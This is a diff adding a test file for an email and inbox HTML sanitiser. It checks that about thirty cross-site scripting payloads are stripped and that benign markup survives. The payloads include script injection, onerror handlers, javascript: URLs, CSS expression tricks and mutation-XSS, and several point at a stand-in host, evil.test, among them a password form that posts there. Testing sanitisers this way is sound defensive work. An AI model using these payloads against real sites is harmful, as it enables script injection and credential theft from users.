@@ -1,0 +1,81 @@
+import { describe, expect, it } from 'vitest';
+import { safeEmailHtml, safeInboxHtml } from '../../../src/workflow-language/html/safe-html.ts';
+
+const ATTACKS: readonly (readonly [html: string, inbox: string])[] = [
+  ['<script>alert(1)</script>Hi', 'Hi'],
+  ['<scr<script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
+  ['<SCRIPT SRC=//evil.test/x.js></SCRIPT>', ''],
+  ['<img src=x onerror=alert(1)>', '<img src="x" />'],
+  ['<<img src=x onerror=alert(1)>', '&lt;<img src="x" />'],
+  ['<img/onerror=alert(1)/src=x>', '<img />'],
+  ['<details open ontoggle=alert(1)>x</details>', '<details open>x</details>'],
+  ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
+  ['<a href="java\tscript:alert(1)">x</a>', '<a>x</a>'],
+  ['<a href="&#106;avascript:alert(1)">x</a>', '<a>x</a>'],
+  ['<a href=" \u0001VBScript:x">x</a>', '<a>x</a>'],
+  ['<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a>x</a>'],
+  ['<img src="data:image/svg+xml,<svg onload=alert(1)>">', '<img />'],
+  ['<img srcset="javascript:x 1x, /a.png 2x">', '<img srcset="/a.png 2x" />'],
+  ['<p style="width:expression(alert(1));color:red">x</p>', '<p style="color:red">x</p>'],
+  ['<p style="background-color:url(javascript:x)">x</p>', '<p>x</p>'],
+  ['<p style="color:\\65 xpression(alert(1))">x</p>', '<p>x</p>'],
+  ['<p style="position:fixed;margin:-9px;top:0">x</p>', '<p>x</p>'],
+  ['<style>@import "//evil.test/x.css"</style>x', 'x'],
+  ['<svg><style><img src=x onerror=alert(1)></style></svg>', ''],
+  [
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    '<table><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;" /></table>',
+  ],
+  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ''],
+  ['<xmp><img src=x onerror=alert(1)></xmp>', ''],
+  ['<textarea><img src=x onerror=alert(1)></textarea>', ''],
+  ['<title><style></title><img src=x onerror=alert(1)></style>', '&lt;style&gt;<img src="x" />'],
+  ['<!--><img src=x onerror=alert(1)>-->', '<img src="x" />--&gt;'],
+  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>x', 'x'],
+  ['<form action="//evil.test"><input name=password></form>', ''],
+  ['<base href=//evil.test><meta http-equiv=refresh content="0;url=//evil.test">x', 'x'],
+  ['<b id=config name=config data-controller=x>x</b>', '<b>x</b>'],
+  ['Hello <', 'Hello &lt;'],
+];
+/** What no safe HTML has, in a tag. */
+const DANGEROUS =
+  /<[^>]*\s(?:on\w+|srcdoc|formaction)\s*=|<(?:script|iframe|base|form|svg|math)|(?:href|src)="\s*(?:javascript|vbscript|data:text)|expression\(/i;
+
+describe('safeInboxHtml', () => {
+  it.each(ATTACKS)('makes %j safe', (html, safe) => {
+    expect(safeInboxHtml(html)).toBe(safe);
+    expect(safeInboxHtml(safe)).toBe(safe);
+  });
+
+  it.each([
+    'Tom & Jerry: 1 < 2, 3 > 2, "quoted"',
+    '<p>Tom &amp; <b>Jerry</b></p>',
+    '<p style="color:#f00;text-align:center">Order <a href="/orders/1" target="_blank">1</a></p>',
+    '<a href="https://example.com/?a=1&amp;b=2">x</a> <a href="mailto:a@example.com">y</a> <a href="tel:+43">z</a>',
+    '<table><tr><td colspan="2" align="right">x</td></tr></table><ul><li>x</li></ul>',
+    '<img src="data:image/png;base64,AAAA" alt="Logo" />',
+  ])('keeps %j', (html) => {
+    expect(safeInboxHtml(html)).toBe(html);
+  });
+});
+
+describe('safeEmailHtml', () => {
+  it.each(ATTACKS)('makes %j safe', (html) => {
+    expect(safeEmailHtml(html).replace(/ title="[^"]*"|<style>[\s\S]*?<\/style>/g, '')).not.toMatch(DANGEROUS);
+  });
+
+  it('keeps a whole document with its styles', () => {
+    const html =
+      '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8" /><title>News</title>' +
+      '<style>@media (max-width: 600px) { .a > p { color: red } }</style></head>' +
+      '<body bgcolor="#fff" style="margin:-1px"><table cellpadding="0" id="main"><tr><td background="https://example.com/a.png">' +
+      '<center><font color="red">Hi</font></center><img src="cid:logo" alt="Logo" /></td></tr></table></body></html>';
+    expect(safeEmailHtml(html)).toBe(html);
+  });
+
+  it('removes redirects, and styles that run code', () => {
+    expect(safeEmailHtml('<meta http-equiv="refresh" content="0;url=//evil.test"><p>x</p>')).toBe('<meta /><p>x</p>');
+    expect(safeEmailHtml('<style>a { width: expr/**/ession(alert(1)) }</style><p>x</p>')).toBe('<p>x</p>');
+    expect(safeEmailHtml('<p style="-moz-binding:url(//evil.test)">x</p>')).toBe('<p>x</p>');
+  });
+});
